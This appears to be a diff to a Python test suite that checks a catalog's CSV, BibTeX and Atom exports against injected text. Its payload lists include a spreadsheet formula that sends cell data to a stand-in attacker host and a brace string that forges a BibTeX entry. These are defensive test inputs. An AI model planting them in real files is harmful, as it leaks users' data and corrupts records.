@@ -4,17 +4,14 @@ run as formulas, BibTeX keeps its entries and names, the feed parses as XML."""
 from __future__ import annotations
 
 import csv
-import dataclasses
 import io
 import xml.etree.ElementTree as ET
 
 import bibtexparser
 import pytest
-from conftest import write_catalog
+from support.hostile import hostile_catalog
 
-from macros.catalog.build import load_catalog
 from macros.export.write import render_exports
-from macros.kinds import FOLDERS
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?d="&A2,"x")',
@@ -27,45 +24,9 @@ FORMULAS = [
 BRACES = ['x} } @misc(pwned, title = "Injected entry") @comment(', "a{b", "unbalanced }"]
 
 
-@pytest.fixture(scope="module")
-def clean(tmp_path_factory):
-    root = tmp_path_factory.mktemp("exports")
-    write_catalog(root / "data", 24)
-    catalog, problems = load_catalog(root, style=False)
-    assert catalog is not None, problems[:3]
-    return catalog
-
-
-def rewrite(catalog, text: str):
-    """Every text field of every entry and result set to ``text`` (past the validator)."""
-    c = dataclasses.replace(catalog)
-    for kind in FOLDERS:
-        store = {}
-        for eid, e in catalog.kind(kind).items():
-            fields = type(e).model_fields
-            update = {
-                f: text
-                for f in ("name", "title", "summary", "note", "venue", "licence", "family")
-                if f in fields and getattr(e, f) is not None
-            }
-            if "authors" in fields:
-                update["authors"] = [text, "EPFL LLM Team"]
-            store[eid] = e.model_copy(update=update)
-        setattr(c, kind, store)
-    setting = {"method": text, "harness": text, "grader": text}
-    c.scores = [
-        dataclasses.replace(
-            s, locator=text, note=text, setting=s.setting.model_copy(update=setting)
-        )
-        for s in catalog.scores
-    ]
-    c.derive()
-    return c
-
-
 @pytest.mark.parametrize("payload", FORMULAS)
-def test_no_csv_cell_runs_as_a_formula_in_any_text_column(clean, payload):
-    files = render_exports(rewrite(clean, payload))
+def test_no_csv_cell_runs_as_a_formula_in_any_text_column(catalog40, payload):
+    files = render_exports(hostile_catalog(catalog40, payload))
     for name, text in files.items():
         if not name.endswith(".csv"):
             continue
@@ -77,8 +38,8 @@ def test_no_csv_cell_runs_as_a_formula_in_any_text_column(clean, payload):
 
 
 @pytest.mark.parametrize("payload", BRACES)
-def test_braces_in_text_cannot_forge_or_drop_bibtex_fields(clean, payload):
-    catalog = rewrite(clean, payload)
+def test_braces_in_text_cannot_forge_or_drop_bibtex_fields(catalog40, payload):
+    catalog = hostile_catalog(catalog40, payload)
     bib = render_exports(catalog)["atlas.bib"]
     library = bibtexparser.parse_string(bib)
     assert not library.failed_blocks
@@ -91,15 +52,15 @@ def test_braces_in_text_cannot_forge_or_drop_bibtex_fields(clean, payload):
     assert all(tail in entry.fields_dict["title"].value for entry in library.entries)
 
 
-def test_bibtex_months_are_macros_dois_verbatim_and_a_team_is_one_name(clean):
-    bib = render_exports(rewrite(clean, "A title"))["atlas.bib"]
+def test_bibtex_months_are_macros_dois_verbatim_and_a_team_is_one_name(catalog40):
+    bib = render_exports(hostile_catalog(catalog40, "A title"))["atlas.bib"]
     assert "month = {" not in bib and "  month = " in bib
     assert "{EPFL LLM Team}" in bib
 
 
 @pytest.mark.parametrize("payload", ["a & b < c", "\"quoted\" 'x'", "]]> <!-- -->"])
-def test_the_feed_parses_as_xml_whatever_the_text(clean, payload):
-    feed = render_exports(rewrite(clean, payload))["feed.xml"]
+def test_the_feed_parses_as_xml_whatever_the_text(catalog40, payload):
+    feed = render_exports(hostile_catalog(catalog40, payload))["feed.xml"]
     root = ET.fromstring(feed.encode("utf-8"))
     entries = root.findall("{http://www.w3.org/2005/Atom}entry")
     assert entries and all(
